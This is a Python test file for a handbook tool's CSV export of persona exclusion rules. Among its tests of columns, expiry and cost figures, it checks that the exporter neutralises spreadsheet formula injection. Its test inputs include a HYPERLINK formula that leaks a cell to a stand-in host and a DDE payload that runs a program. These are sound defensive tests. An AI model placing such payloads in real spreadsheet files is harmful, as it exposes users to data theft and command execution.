import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.handbook.support import TODAY
from tests.handbook.views.given import economics, handbook, negative, selection

from handbook.catalog import Catalog
from handbook.exports import EXCLUSIONS_URI, files, table
from handbook.views import exclusions

GBP = "baseline: {currency: GBP}"
BOM = "\ufeff"
steady = settings(derandomize=True, max_examples=300, deadline=None, database=None)
# What a spreadsheet takes for the beginning of a formula, or for something else than text.
ACTIVE = "=+-@\t\r\n\0"


def parsed(text: str) -> list[list[str]]:
    """The cells as a spreadsheet reads them."""
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), strict=True))


def register(catalog: Catalog) -> list[dict[str, str]]:
    """The lines of the exclusions' file by the names of its columns."""
    ((uri, text),) = files(catalog)
    assert uri == EXCLUSIONS_URI
    header, *rows = parsed(text)
    return [dict(zip(header, row, strict=True)) for row in rows]


def excluded(*rules: str) -> str:
    return negative(f"exclusions: [{', '.join(rules)}]")


RULE = "{where: Mail, rule: Skis}"
WHOLE = (
    "{where: 'Search, all', kind: keyword, rule: 'The word \"skis\"', owner: Marketing,"
    f" since: 2026-01-31, expires: {TODAY}}}"
)


def test_every_exclusion_is_a_line_with_all_that_its_file_says() -> None:
    catalog = handbook(GBP, the_skier=excluded(WHOLE, RULE), ben="", cy=negative("why: W"))
    assert register(catalog) == [
        {
            "persona": "The Skier",
            "id": "the-skier",
            "where": "Search, all",
            "kind": "Search term",
            "rule": 'The word "skis"',
            "owner": "Marketing",
            "since": "2026-01-31",
            "expires": "2026-11-23",
            "expired": "no",
            "waste a year (once per persona)": "",
            "currency": "",
            "waste rests on": "",
        },
        {
            "persona": "The Skier",
            "id": "the-skier",
            "where": "Mail",
            "kind": "",
            "rule": "Skis",
            "owner": "",
            "since": "",
            "expires": "",
            "expired": "",
            "waste a year (once per persona)": "",
            "currency": "",
            "waste rests on": "",
        },
    ]


def test_what_ended_before_today_has_expired() -> None:
    rules = [f"{{where: W, rule: R, expires: 2026-11-{day}}}" for day in (22, 23, 24)]
    assert [line["expired"] for line in register(handbook(ann=excluded(*rules)))] == ["yes", "no", "no"]


@pytest.mark.parametrize(
    ("figures", "waste", "currency", "basis"),
    [
        (economics(new_customers="4", acquisition_cost="25"), "100.00", "GBP", "S1"),
        (economics(new_customers="4", acquisition_cost="25", source="[S1, S2]"), "100.00", "GBP", "S1, S2"),
        (economics(new_customers="4", acquisition_cost="25", estimate="true"), "100.00", "GBP", "estimate"),
        (economics(new_customers="4", acquisition_cost="25", source=None), "100.00", "GBP", "estimate"),
        (economics(new_customers="5", acquisition_cost="0.125", period="month"), "7.50", "GBP", "S1"),
        (economics(new_customers="1", acquisition_cost="0.125"), "0.13", "GBP", "S1"),
        (economics(customers="400000", new_customers="400000", acquisition_cost="25"), "10000000.00", "GBP", "S1"),
        (economics(new_customers="0", acquisition_cost=None), "0.00", "GBP", "S1"),
        (economics(new_customers=None), "", "", ""),
        (economics(acquisition_cost=None, new_customers="4"), "", "", ""),
        ("", "", "", ""),
    ],
)
def test_the_waste_is_a_plain_number_with_its_currency_and_what_it_rests_on(
    figures: str, waste: str, currency: str, basis: str
) -> None:
    (line,) = register(handbook(GBP, ann=excluded(RULE) + figures))
    assert list(line.values())[-3:] == [waste, currency, basis]


def test_the_sum_of_the_column_is_the_sum_on_the_page() -> None:
    spent = economics(new_customers="4", acquisition_cost="25")
    catalog = handbook(GBP, ann=excluded(RULE, RULE, RULE) + spent, ben=excluded(RULE, RULE) + spent)
    wastes = [line["waste a year (once per persona)"] for line in register(catalog)]
    assert wastes == ["100.00", "", "", "100.00", ""]
    assert exclusions.build(selection(), catalog).waste == sum(float(waste or 0) for waste in wastes)


def test_retired_personas_are_left_out_and_a_file_without_lines_is_not_written() -> None:
    retired = "status: retired\nretired_on: 2026-01-01\nretired_reason: Gone.\n"
    catalog = handbook(ann=excluded(RULE) + retired, ben=excluded(RULE))
    assert [line["id"] for line in register(catalog)] == ["ben"]
    assert list(files(handbook(ann=excluded(RULE) + retired))) == []
    assert list(files(handbook(ann="", ben=negative("why: W")))) == []


def test_the_public_gets_no_file() -> None:
    assert len(register(handbook("audience: internal", ann=excluded(RULE)).shown(drafts=True))) == 1
    assert list(files(handbook("audience: public", ann=excluded(RULE)).shown(drafts=True))) == []


def test_a_file_is_what_the_standard_says_with_a_mark_that_spreadsheets_need() -> None:
    text = table([["a", "b, c", 'd "e"'], ["", "f\ng", "h\r\ni"], ["Ünïcode", " j ", "k"]])
    assert text == '\ufeffa,"b, c","d ""e"""\r\n,"f\ng","h\r\ni"\r\nÜnïcode, j ,k\r\n'


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        '=HYPERLINK("https://example.com?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        '","=1',
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_becomes_text(cell: str) -> None:
    ((found, beside),) = parsed(table([[cell, "x"]]))
    assert found == (f"'{cell}" if cell[0] in ACTIVE else cell)
    assert beside == "x"


@pytest.mark.parametrize("cell", ["", "a=1", "1-2", "'=1", " =1", "£4", "2026-01-31", "100.00"])
def test_a_harmless_cell_stays_as_it_is(cell: str) -> None:
    assert parsed(table([[cell, "x"]])) == [[cell, "x"]]


CELLS = st.lists(st.sampled_from([*ACTIVE, '"', ",", ";", "'", " ", "\r\n", BOM]) | st.text(max_size=4), max_size=6)


@steady
@given(rows=st.lists(st.lists(CELLS.map("".join), min_size=2, max_size=4), min_size=1, max_size=4))
@example(rows=[["=", "+"], ["-", "@"]])
@example(rows=[['"=', "\0"], [",", "\r"]])
@example(rows=[[BOM, BOM + "=1"]])
def test_no_cell_begins_a_formula_and_none_changes_otherwise(rows: list[list[str]]) -> None:
    found = parsed(table(rows))
    assert [[len(row) for row in rows]] == [[len(row) for row in found]]
    for cell, read in zip((one for row in rows for one in row), (one for row in found for one in row), strict=True):
        assert not read.startswith(tuple(ACTIVE))
        assert read == (f"'{cell}" if cell.startswith(tuple(ACTIVE)) else cell)


@pytest.mark.parametrize("field", ["where", "rule", "owner", "name"])
def test_nothing_that_a_writer_types_reaches_a_spreadsheet_as_a_formula(field: str) -> None:
    parts = {"where": "W", "rule": "R", "owner": "O"} | {field: '=1+1, "x"'}
    rule = ", ".join(f"{key}: '{value}'" for key, value in parts.items() if key != "name")
    catalog = handbook(ann=excluded(f"{{{rule}}}"))
    if field == "name":
        record = catalog.records[0]
        named = record.persona.model_copy(update={"name": parts["name"]})
        catalog = type(catalog)(
            (type(record)(record.id, named, record.document, record.prose),), catalog.company, TODAY
        )
    (line,) = register(catalog)
    assert '\'=1+1, "x"' in line.values()
    assert not [cell for cell in line.values() if cell.startswith("=")]
